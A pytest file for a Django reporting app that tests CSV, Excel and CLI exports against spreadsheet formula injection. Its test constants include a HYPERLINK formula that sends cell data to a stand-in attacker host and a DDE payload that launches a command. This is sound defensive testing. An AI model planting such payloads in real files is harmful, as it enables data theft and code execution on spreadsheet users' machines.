"""No download runs a formula: every CSV and Excel writer neutralises formula-like text and
keeps numbers as numbers (issue #10: formula injection)."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from saferplan.core.cells import csv_cell, is_formula_like

# The cases quoted in the issue, and the other starts spreadsheets treat as formulas.
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&C3,"Click for details")'
ATTACKS = [HYPERLINK, "=1+1", "=cmd|' /C calc'!A0", "=1+16", "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]  # fmt: skip
SAFE_TEXT = ["Patrols in Wealdstone", "3 - 4 weeks", "a=b", ""]
NUMBERS = ["-3.5", "+12", "-1e3", "42"]


def _formulas(xlsx: bytes) -> list[str]:
    """Every formula element in every sheet of a workbook, read from its XML."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        return [n for n in sheets if b"<f>" in book.read(n) or b"<f " in book.read(n)]


def _cells(xlsx: bytes) -> list[tuple[object, str]]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]


def test_what_counts_as_a_formula() -> None:
    assert all(is_formula_like(a) for a in ATTACKS)
    assert not any(is_formula_like(v) for v in SAFE_TEXT + NUMBERS + [3, -3.5, None])
    assert csv_cell("=1+1") == "'=1+1" and csv_cell(-3.5) == -3.5 and csv_cell(None) == ""


def test_the_shared_table_writers(tmp_path: Path) -> None:
    from saferplan.reports import tabular

    rows = [[a, 7, Decimal("-2.50"), -1.5] for a in ATTACKS] + [[n, 1, 2, 3] for n in NUMBERS]
    text = tabular.to_csv(["child_ref", "count", "rate", "change"], rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0] for r in read] == ["'" + a for a in ATTACKS] + NUMBERS
    assert read[0][1:] == ["7", "-2.50", "-1.5"]
    xlsx = tabular.to_xlsx("Tracker", ["child_ref", "count", "rate", "change"], rows, [HYPERLINK])
    assert _formulas(xlsx) == []
    cells = _cells(xlsx)
    assert (HYPERLINK, "s") in cells and ("=1+16", "s") in cells  # shown exactly as written
    assert (7, "n") in cells and (-1.5, "n") in cells and (-2.5, "n") in cells


def test_cli_csv_output(capsys) -> None:
    from saferplan.cli.output import print_rows

    print_rows(["child_ref", "months"], [["=1+16", 3], [HYPERLINK, -2]], "csv", "Tracker")
    read = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert read == [["child_ref", "months"], ["'=1+16", "3"], ["'" + HYPERLINK, "-2"]]


@pytest.mark.django_db
def test_the_live_trackers_downloads(tmp_path: Path) -> None:
    from saferplan.accounts.tenancy import partnership_scope
    from saferplan.plans.demo import demo_partnership, load_demo_partnership
    from saferplan.youthjustice.files import write_tables
    from saferplan.youthjustice.store import import_extract
    from saferplan.youthjustice.synth import generate_cohort

    load_demo_partnership()
    tables = generate_cohort(children=60, seed=5).tables()
    refs = {ref: f"=1+{n}" for n, ref in enumerate(sorted(set(tables["children"]["child_ref"])))}
    for table in tables.values():
        if "child_ref" in table:
            table["child_ref"] = table["child_ref"].map(refs)
    write_tables(tables, tmp_path / "extract")
    with partnership_scope(demo_partnership()):
        import_extract(tmp_path / "extract", user="tester")
    client = Client()
    client.force_login(get_user_model().objects.get(username="yot"))
    url = "/youth-justice/tracker/?period=2018-19&today=2020-06-30&format="
    text = client.get(url + "csv").content.decode("utf-8-sig")
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert read and all(r["child_ref"].startswith("'=1+") for r in read)
    xlsx = client.get(url + "xlsx").content
    assert _formulas(xlsx) == []
    assert any(isinstance(v, str) and v.startswith("=1+") and t == "s" for v, t in _cells(xlsx))


def test_stats_csv_output(monkeypatch) -> None:
    from types import SimpleNamespace

    from typer.testing import CliRunner

    from saferplan.cli.main import app
    from saferplan.crime import comparisons
    from saferplan.datastore.warehouse import Warehouse

    row = SimpleNamespace(rank=1, area="=1+16", count=3, rate=Decimal("-1.50"))
    monkeypatch.setattr(comparisons, "ranking", lambda *args, **kw: ([row], "mps"))
    monkeypatch.setattr(Warehouse, "connect", lambda self: None)
    result = CliRunner().invoke(app, ["stats", "rank", "--period", "2018", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[1] == "1,'=1+16,3,-1.50"
